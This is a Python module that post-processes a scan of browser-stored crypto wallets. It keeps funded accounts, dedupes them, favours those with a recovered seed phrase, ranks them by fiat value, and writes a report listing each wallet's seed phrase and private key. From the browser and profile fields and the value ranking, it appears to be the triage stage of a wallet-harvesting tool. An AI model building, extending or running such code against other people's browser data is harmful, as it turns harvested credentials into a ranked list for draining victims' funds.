"""
Post-processing of a scan run: keep funded wallets, dedupe, rank by value.
"""

from dataclasses import dataclass, field
from typing import Any, Dict, List

from .models import BalanceSnapshot, ScannedAccount, ScanRun, is_positive, utc_now


def has_balance(entry: ScannedAccount) -> bool:
    """
    Check whether an account holds anything.

    True when the total value is positive, or any native or token quantity
    is positive, or any collection is non-empty.
    """
    if entry.total_fiat_value > 0:
        return True
    if entry.snapshot is None:
        return False
    return any(network.has_holdings() for network in entry.snapshot.networks)


def has_seed_phrase(entry: ScannedAccount) -> bool:
    return bool(entry.credentials is not None and entry.credentials.ok and entry.credentials.seed_phrase)


def _prefer(candidate: ScannedAccount, existing: ScannedAccount) -> bool:
    if has_seed_phrase(candidate) != has_seed_phrase(existing):
        return has_seed_phrase(candidate)
    return candidate.total_fiat_value > existing.total_fiat_value


def remove_duplicates(entries: List[ScannedAccount]) -> List[ScannedAccount]:
    """
    Keep one entry per address, compared case-insensitively.

    An entry with a resolved seed phrase always wins over one without.
    Otherwise a later duplicate replaces the kept entry only if its total
    value is strictly higher. The kept
    entry stays at the position where the address was first seen.
    """
    kept: Dict[str, ScannedAccount] = {}
    for entry in entries:
        key = entry.account.address_key
        existing = kept.get(key)
        if existing is None or _prefer(entry, existing):
            kept[key] = entry
    return list(kept.values())


def _network_summary(snapshot: BalanceSnapshot) -> List[Dict[str, Any]]:
    networks = []
    for network in snapshot.networks:
        if not network.has_holdings():
            continue
        summary: Dict[str, Any] = {"network": network.network}
        if is_positive(network.native.quantity):
            summary["native"] = network.native.to_dict()
        tokens = [t.to_dict() for t in network.tokens if is_positive(t.quantity)]
        if tokens:
            summary["tokens"] = tokens
        collectibles = [c.to_dict() for c in network.collectibles if c.count > 0]
        if collectibles:
            summary["collectibles"] = collectibles
        if network.partial:
            summary["partial"] = True
        networks.append(summary)
    return networks


def format_wallet(entry: ScannedAccount, number: int) -> Dict[str, Any]:
    """Report entry for one kept wallet; credentials are included only when resolved."""
    account = entry.account
    wallet: Dict[str, Any] = {
        "wallet_number": number,
        "profile": account.profile,
        "origin": account.origin,
        "address": account.address,
        "total_fiat_value": entry.total_fiat_value,
    }
    if account.derivation is not None:
        wallet["account_index"] = account.derivation.index
        wallet["derivation_path"] = account.derivation.path

    credentials = entry.credentials
    if credentials is not None:
        if credentials.ok:
            if credentials.seed_phrase:
                wallet["seed_phrase"] = credentials.seed_phrase
            wallet["private_key"] = credentials.private_key
        else:
            wallet["credentials_status"] = credentials.status
            wallet["credentials_error"] = credentials.error or credentials.message

    wallet["balances"] = _network_summary(entry.snapshot) if entry.snapshot else []
    return wallet


@dataclass
class FilteredReport:
    """Funded, deduplicated wallets of a run ranked by value."""

    chain_family: str
    browser: str
    original_scan_date: str
    original_total: int
    with_balance: int
    wallets: List[ScannedAccount] = field(default_factory=list)
    generated_at: str = field(default_factory=utc_now)

    @property
    def total_portfolio_value(self) -> float:
        return sum(entry.total_fiat_value for entry in self.wallets)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "generated_at": self.generated_at,
            "original_scan_date": self.original_scan_date,
            "chain_family": self.chain_family,
            "browser": self.browser,
            "original_total_wallets": self.original_total,
            "wallets_with_balance": len(self.wallets),
            "total_portfolio_value": self.total_portfolio_value,
            "wallets": [format_wallet(entry, number) for number, entry in enumerate(self.wallets, start=1)],
        }


def filter_wallets(run: ScanRun) -> FilteredReport:
    """
    Keep funded wallets of a run, dedupe them and rank by total value.

    The sort is stable, so equal totals keep their discovery order.
    """
    funded = [entry for entry in run.accounts if has_balance(entry)]
    unique = remove_duplicates(funded)
    ranked = sorted(unique, key=lambda entry: -entry.total_fiat_value)

    return FilteredReport(
        chain_family=run.chain_family,
        browser=run.browser,
        original_scan_date=run.scan_started_at,
        original_total=len(run.accounts),
        with_balance=len(funded),
        wallets=ranked,
    )
